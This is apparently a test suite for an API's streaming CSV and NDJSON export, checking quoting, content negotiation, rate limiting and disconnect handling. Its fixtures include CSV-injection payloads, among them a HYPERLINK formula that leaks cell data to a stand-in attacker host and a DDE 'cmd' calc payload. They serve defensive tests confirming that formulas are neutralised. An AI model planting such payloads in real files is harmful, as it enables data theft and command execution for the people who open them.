// Streaming export: CSV and NDJSON of every row of the metrics, answers and sources endpoints,
// the same values as JSON, RFC 4180 quoting, no formula a spreadsheet would run, one token per
// 1 000 rows, errors before the first byte as the usual envelope, and a client that goes away
// stops the query.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { newId } from '../../src/db/ids.js';
import { EXPORT_BATCH_ROWS, ndjsonLineWriter, negotiateExport, nextBatchRows } from '../../src/rest/export.js';
import { csvField } from '../../src/rest/csv.js';
import { createKeyedWorkspace, createTestApp, json, type TestApp } from '../support/app.js';
import { listen } from '../support/listen.js';
import { memoryRateLimitStore } from '../../src/auth/rate-limit-store.js';
import { EXPORT_APPLICATION_NAME } from '../../src/db/client.js';
import { parseCsv } from '../support/csv.js';
import { createProject } from '../support/projects.js';

const TOKEN = 'e'.repeat(40);
const TRICKY = 'Acme, "the best"\nsecond line\r\nthird, with "quotes"';
/** Texts a spreadsheet would run (OWASP's CSV injection), as answers of the first day; the first is also a prompt. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1+1)',
  ' \u00a0\u3000@SUM(1)',
  '\u200b=1+1',
];
let t: TestApp;
let key: string;
let projectId: string;
/** Tokens taken per bucket key; a take numbered `failingTake` throws (the store failing mid-stream). */
const taken = new Map<string, number>();
let takes = 0;
let failingTake = -1;

const exported = (path: string, accept: string, apiKey = key) =>
  t.get(`/api/v1/ai-visibility/projects/${projectId}${path}`, apiKey, { headers: { accept } });

beforeAll(async () => {
  const store = memoryRateLimitStore();
  const counting = {
    take: (buckets: Parameters<typeof store.take>[0], nowMs: number, cost = 1) => {
      // Counted by the request's own bucket (the key's; the workspace's is spent alongside).
      if (cost > 0) taken.set(buckets[0]!.key, (taken.get(buckets[0]!.key) ?? 0) + cost);
      if (++takes === failingTake) return Promise.reject(new Error('rate-limit store down'));
      return store.take(buckets, nowMs, cost);
    },
  };
  t = await createTestApp({ INGEST_TOKEN: TOKEN, METRICS_ROW_CAP: '2', LIST_ROW_CAP: '50' }, { store: counting });
  const keyed = await createKeyedWorkspace(t.database, { plan: 'scale' });
  key = keyed.key.secret;
  projectId = (
    await createProject(t.database, keyed.workspace.id, {
      name: 'Export',
      competitors: ['Globex'],
      models: ['chatgpt'],
      locales: ['en-US', 'de-DE'],
      domains: ['acme.com'],
    })
  ).id;
  // 5 scans × 500 runs = 2 500 answers; the first answer's text needs every kind of quoting.
  const lines = ['2026-10-01', '2026-10-02', '2026-10-03', '2026-10-04'].map((date, day) => ({
    project: projectId,
    date,
    model: 'chatgpt',
    locale: 'en-US',
    runs: Array.from({ length: 500 }, (_, index) => ({
      prompt: index === 1 ? FORMULAS[0]! : `prompt ${index}`,
      answer: day === 0 && index === 0 ? TRICKY : (day === 0 && FORMULAS[index - 1]) || `answer ${day}/${index}`,
      brandMentions: index % 3 === 0 ? 1 : 0,
      totalMentions: 2,
      position: index % 3 === 0 ? 1 : null,
      sentiment: index % 3 === 0 ? 'positive' : null,
      citations: index % 2 ? [{ url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"' }] : [],
      // Nested text JSON must escape, and characters PostgreSQL and JSON.stringify could write differently.
      ...(index % 5 === 0
        ? {
            competitors: [{ name: 'Globex', mentions: 1, position: 2 }],
            searchQueries: [`acme vs "globex", ${index}`, 'back\\slash / ünïcödé ✓ 😀 \u2028 tab\tend'],
            retrieved: [
              { url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"\nline two' },
              { url: 'https://read.example.org/a?b=1&c=%22', title: null },
            ],
          }
        : {}),
    })),
  }));
  lines.push({
    project: projectId,
    date: '2026-10-01',
    model: 'chatgpt',
    locale: 'de-DE',
    runs: lines[0]!.runs.slice(0, 500),
  });
  const response = await t.app.fetch(
    new Request('http://test.local/internal/ingest/scans', {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}` },
      body: lines.map((line) => JSON.stringify(line)).join('\n'),
    }),
  );
  expect(response.status, await response.clone().text()).toBe(200);
});
afterAll(() => t.close());

describe('negotiation and quoting', () => {
  it('picks CSV or NDJSON only when the client prefers it over JSON', () => {
    expect(negotiateExport('text/csv')).toBe('csv');
    expect(negotiateExport('application/x-ndjson')).toBe('ndjson');
    expect(negotiateExport('application/json, text/csv;q=0.5')).toBeNull();
    expect(negotiateExport('text/csv;q=0.9, application/json;q=0.5')).toBe('csv');
    expect(negotiateExport('*/*')).toBeNull();
    expect(negotiateExport('text/html,application/xhtml+xml,*/*;q=0.8')).toBeNull();
    expect(negotiateExport('text/csv;q=0')).toBeNull();
    expect(negotiateExport(null)).toBeNull();
  });

  it('quotes fields with commas, quotes, CR or LF, doubles inner quotes, and writes nested values as JSON', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField(null)).toBe('');
    expect(csvField([{ a: 1 }])).toBe('"[{""a"":1}]"');
    expect(csvField(0.25)).toBe('0.25');
  });

  it('writes an NDJSON line from the other keys and the JSON text of the nested ones, appended as it is', () => {
    expect(ndjsonLineWriter()({ a: 1, b: [2] })).toBe('{"a":1,"b":[2]}\n');
    const line = ndjsonLineWriter(['b', 'c']);
    expect(line({ b: '[1, {"x": "y"}]', a: 'q"', c: null })).toBe('{"a":"q\\"","b":[1, {"x": "y"}],"c":null}\n');
    expect(line({ b: '{}', c: '[]' })).toBe('{"b":{},"c":[]}\n');
  });

  it('sizes each cursor read to about 1 MiB from the bytes per row so far, between 1 and 200 rows', () => {
    expect(nextBatchRows(0, 0)).toBe(EXPORT_BATCH_ROWS / 10);
    expect(nextBatchRows(20, 20 * 100)).toBe(EXPORT_BATCH_ROWS);
    expect(nextBatchRows(20, 20 * 40_000)).toBe(26);
    expect(nextBatchRows(1, 5 * 1024 * 1024)).toBe(1);
  });

  it('neutralises text a spreadsheet would run as a formula with a leading quote (OWASP), numbers stay numbers', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('\n=1')).toBe(`"'\n=1"`);
    for (const lead of [' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u2003'])
      expect(csvField(`${lead}=1`)).toBe(`'${lead}=1`);
    // Invisible leads: zero-width space, joiners, direction marks and isolates, word joiner, soft hyphen, controls.
    for (const lead of [
      '\u200b',
      '\u200c\u200d',
      '\u200e',
      '\u200f',
      '\u202e',
      '\u2066',
      '\u2060',
      '\u00ad',
      '\u0000',
      '\u001f',
      '\u034f',
      '\u180e',
      '\u3164',
      '\ufe0f',
      '\u200b \u2060\u00a0',
    ])
      expect(csvField(`${lead}=1+1`)).toBe(`'${lead}=1+1`);
    for (const fullWidth of ['＝1', '＋1', '－1', '＠SUM(A1)']) expect(csvField(fullWidth)).toBe(`'${fullWidth}`);
    expect(csvField(' a=1')).toBe(' a=1');
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField('\u200ba=1')).toBe('\u200ba=1');
    expect(csvField(-0.5)).toBe('-0.5');
  });
});

describe('answers', () => {
  it('stream every answer as NDJSON, equal to the JSON pages', async () => {
    const response = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/x-ndjson');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="answers-${projectId}.ndjson"`);
    const records = (await response.text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(records).toHaveLength(2500);
    const firstPage = (
      await json(await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'))
    ).data;
    expect(records.slice(0, 500)).toEqual(firstPage);
    expect(new Set(records.map((record) => record.id)).size).toBe(2500);
  });

  it('stream as CSV with a header line and RFC 4180 quoting, the same values as JSON', async () => {
    const response = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-01&locale=en-US', 'text/csv');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const [header, ...rows] = parseCsv(await response.text());
    expect(header).toEqual([
      'id',
      'projectId',
      'promptId',
      'prompt',
      'date',
      'model',
      'locale',
      'text',
      'brandMentions',
      'totalMentions',
      'position',
      'sentiment',
      'competitors',
      'citations',
      'searchQueries',
      'retrieved',
    ]);
    expect(rows).toHaveLength(500);
    const tricky = rows.find((row) => row[7] === TRICKY)!;
    expect(tricky).toBeDefined();
    const asJson = (await json(await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers/${tricky[0]}`, key)))
      .data;
    // Nested values are JSON as stored (spacing may differ): equal once parsed.
    const nested = (value: unknown) => value !== null && typeof value === 'object';
    expect(tricky.map((cell, index) => (nested(asJson[header![index]!]) ? JSON.parse(cell) : cell))).toEqual(
      header!.map((column) =>
        csvField(asJson[column]) === '' ? '' : nested(asJson[column]) ? asJson[column] : String(asJson[column]),
      ),
    );
    expect(JSON.parse(rows.find((row) => row[13] !== '[]')![13]!)[0]).toMatchObject({ title: 'T, "x"' });
  });

  it('write nested values in CSV cells and NDJSON lines as JSON that parses to what JSON answers', async () => {
    const path = '/answers?dateFrom=2026-10-02&dateTo=2026-10-02';
    const [header, ...rows] = parseCsv(await (await exported(path, 'text/csv')).text());
    const records = (await (await exported(path, 'application/x-ndjson')).text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    const page = (await json(await exported(`${path}&limit=500`, 'application/json'))).data;
    expect(records).toEqual(page);
    const nested = ['competitors', 'citations', 'searchQueries', 'retrieved'];
    const full = page.filter((answer: Record<string, unknown[]>) =>
      nested.every((column) => answer[column]!.length > 0),
    );
    expect(full.length).toBeGreaterThan(10);
    for (const answer of full) {
      const row = rows.find((cells) => cells[0] === answer.id)!;
      for (const column of nested) expect(JSON.parse(row[header!.indexOf(column)]!)).toEqual(answer[column]);
    }
    expect(full[0].searchQueries[1]).toBe('back\\slash / ünïcödé ✓ 😀 \u2028 tab\tend');
  });

  it('stream everything since dateFrom when dateTo is left out (dateTo defaults to today)', async () => {
    const rows = parseCsv(await (await exported('/answers?dateFrom=2026-08-01', 'text/csv')).text());
    expect(rows).toHaveLength(1 + 2500);
  });

  it('leave no cell a spreadsheet would run in CSV, and every text as it is in NDJSON', async () => {
    const path = '/answers?dateFrom=2026-10-01&dateTo=2026-10-01&locale=en-US';
    const [header, ...rows] = parseCsv(await (await exported(path, 'text/csv')).text());
    const text = header!.indexOf('text');
    const prompt = header!.indexOf('prompt');
    for (const formula of FORMULAS) {
      expect(rows.filter((row) => row[text] === `'${formula}`)).toHaveLength(1);
    }
    expect(rows.filter((row) => row[prompt] === `'${FORMULAS[0]}`)).toHaveLength(1);
    expect(
      rows
        .flat()
        .filter((cell) => /^(?:[\t\r\n]|[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠])/u.test(cell)),
    ).toEqual([]);
    const records = (await (await exported(path, 'application/x-ndjson')).text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(records.map((record) => record.text).filter((value: string) => FORMULAS.includes(value))).toHaveLength(
      FORMULAS.length,
    );
    expect(records.filter((record) => record.prompt === FORMULAS[0])).toHaveLength(1);
  });

  it('apply the same filters as JSON', async () => {
    const mentioned = (
      await (
        await exported(
          '/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US',
          'application/x-ndjson',
        )
      ).text()
    )
      .trimEnd()
      .split('\n');
    const total = (
      await json(
        await exported(
          '/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US',
          'application/json',
        ),
      )
    ).meta.total;
    expect(mentioned).toHaveLength(total);
    expect(total).toBe(4 * 167);
  });
});

describe('caps', () => {
  it(
    'prompts are cut at their limit and at the list cap, ' + 'and say so; answers never return more than their limit',
    async () => {
      const prompts = await json(await exported('/prompts', 'application/json'));
      expect(prompts.data).toHaveLength(10);
      expect(prompts.meta).toEqual({ total: 500, truncated: true, nextCursor: expect.any(String) });
      const capped = await json(await exported('/prompts?limit=500', 'application/json'));
      expect(capped.data).toHaveLength(50);
      expect(capped.meta).toEqual({ total: 500, truncated: true, nextCursor: expect.any(String) });
      const page = await json(
        await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'),
      );
      expect(page.data).toHaveLength(500);
      expect(page.meta).toMatchObject({ total: 2500, truncated: true, nextCursor: expect.any(String) });
    },
  );
});

describe('metrics and sources', () => {
  it('metrics stream every row past the cap JSON applies', async () => {
    const page = await json(await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/json'));
    expect(page.meta).toEqual({ total: 5, truncated: true });
    const records = (
      await (await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/x-ndjson')).text()
    )
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(records).toHaveLength(5);
    expect(records.slice(0, 2)).toEqual(page.data.rows);
    const csv = parseCsv(await (await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'text/csv')).text());
    expect(csv[0]!.slice(0, 4)).toEqual(['date', 'model', 'locale', 'totalRuns']);
    expect(csv).toHaveLength(6);
  });

  it('sources stream every row, equal to JSON without its per-locale limit', async () => {
    const page = await json(
      await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'),
    );
    const records = (
      await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=1', 'application/x-ndjson')).text()
    )
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(records).toEqual(page.data.rows);
    const byUrl = parseCsv(
      await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&groupBy=url', 'text/csv')).text(),
    );
    expect(byUrl[0]).toEqual([
      'locale',
      'domain',
      'url',
      'citations',
      'answersCiting',
      'citationShare',
      'answerShare',
      'retrievals',
      'retrievedNotCited',
      'owned',
      'competitor',
    ]);
  });
});

describe('errors, rate limit and disconnects', () => {
  it('answers errors before the first byte with the JSON envelope', async () => {
    const missing = await t.get(`/api/v1/ai-visibility/projects/${newId('project')}/answers`, key, {
      headers: { accept: 'text/csv' },
    });
    expect(missing.status).toBe(404);
    expect(missing.headers.get('content-type')).toContain('application/json');
    const bad = await exported('/answers?mentioned=perhaps', 'text/csv');
    expect((await json(bad)).error).toMatchObject({ code: 'invalid_parameter', param: 'mentioned' });
  });

  it('answers 406 with the envelope when the Accept header allows nothing the endpoint sends', async () => {
    for (const accept of ['text/csv', 'application/x-ndjson']) {
      const refused = await exported('/prompts', accept);
      expect(refused.status).toBe(406);
      expect(refused.headers.get('content-type')).toContain('application/json');
      expect((await json(refused)).error).toMatchObject({
        code: 'not_acceptable',
        message: expect.stringContaining('application/json only'),
      });
    }
    expect((await exported('/prompts', 'text/csv, application/json;q=0.5')).status).toBe(200);
    expect((await exported('/prompts', 'text/csv, */*;q=0.1')).status).toBe(200);
    expect((await exported('/answers', 'image/png')).status).toBe(406);
    const csvOnly = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-01', 'application/json;q=0, text/csv');
    expect(csvOnly.headers.get('content-type')).toContain('text/csv');
    await csvOnly.text();
  });

  it('spends one token per 1 000 rows streamed', async () => {
    const total = () => [...taken.values()].reduce((sum, n) => sum + n, 0);
    const before = total();
    await (await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/x-ndjson')).text();
    // 2 500 rows: the request's own token, then one for rows 1 001–2 000 and one for 2 001–2 500.
    expect(total() - before).toBe(3);
  });

  it('answers HEAD without opening a cursor', async () => {
    // Counted at connect, not by connections in use: the previous test's cursor may still be closing.
    const connects = vi.spyOn(t.database.streamPool, 'connect');
    try {
      const head = await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers`, key, {
        method: 'HEAD',
        headers: { accept: 'text/csv' },
      });
      expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([
        200,
        'text/csv; charset=utf-8; header=present',
        '',
      ]);
      expect(connects).not.toHaveBeenCalled();
    } finally {
      connects.mockRestore();
    }
  });

  it('cuts the connection when the stream fails after its headers, and the server stays up', async () => {
    const server = await listen(t.app);
    try {
      failingTake = takes + 2; // the request's own token passes, the next (rows 1 001–2 000) fails
      const response = await fetch(
        `${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`,
        {
          headers: { authorization: `Bearer ${key}`, accept: 'application/x-ndjson' },
          signal: AbortSignal.timeout(10_000),
        },
      );
      expect(response.status).toBe(200);
      const error = await response.text().then(
        () => null,
        (failure: Error) => failure,
      );
      expect(error?.name).not.toBe('TimeoutError');
      expect(error).toBeInstanceOf(TypeError);
      expect(
        (await fetch(`${server.baseUrl}/api/v1/clients`, { headers: { authorization: `Bearer ${key}` } })).status,
      ).toBe(200);
      await expect
        .poll(() => t.database.streamPool.totalCount - t.database.streamPool.idleCount, { timeout: 5_000 })
        .toBe(0);
    } finally {
      failingTake = -1;
      await server.close();
    }
  });

  it('stops the query when the client goes away', async () => {
    const server = await listen(t.app);
    try {
      const controller = new AbortController();
      const response = await fetch(
        `${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`,
        { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' }, signal: controller.signal },
      );
      const reader = response.body!.getReader();
      await reader.read();
      controller.abort();
      await reader.cancel().catch(() => {});
      const open = async () =>
        (
          await t.database.pool.query(
            "SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = $1 AND state <> 'idle'",
            [EXPORT_APPLICATION_NAME],
          )
        ).rows[0].n;
      await expect.poll(open, { timeout: 5_000 }).toBe(0);
    } finally {
      await server.close();
    }
  });
});
